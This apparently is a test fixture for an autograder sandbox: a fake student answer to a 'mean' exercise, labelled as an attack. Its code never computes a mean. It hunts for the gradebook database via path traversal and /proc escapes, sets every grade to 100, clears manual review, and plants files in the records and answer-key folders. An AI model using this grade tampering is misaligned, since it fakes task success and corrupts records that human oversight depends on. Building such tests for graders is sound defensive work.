# /// attack
# tries = "gives itself full marks in the gradebook, and in the records"
# shows = "tried"
# ///

# %% answer s_mean
import os, sqlite3


def mean(values):
    for path in ("{{COURSE}}/gradebook.db", "../../../gradebook.db", "../../gradebook.db", "/proc/1/root{{COURSE}}/gradebook.db"):
        if os.path.exists(path):
            with sqlite3.connect(path) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
            print("{{REACHED}}", path)
    for folder in ("{{COURSE}}/records/ps/ada", "{{COURSE}}/source/ps", "{{COURSE}}/keys"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + "/{{LEFT}}", "w") as file:
                file.write("{}")
        except OSError:
            pass
    print("tried")
    return 0
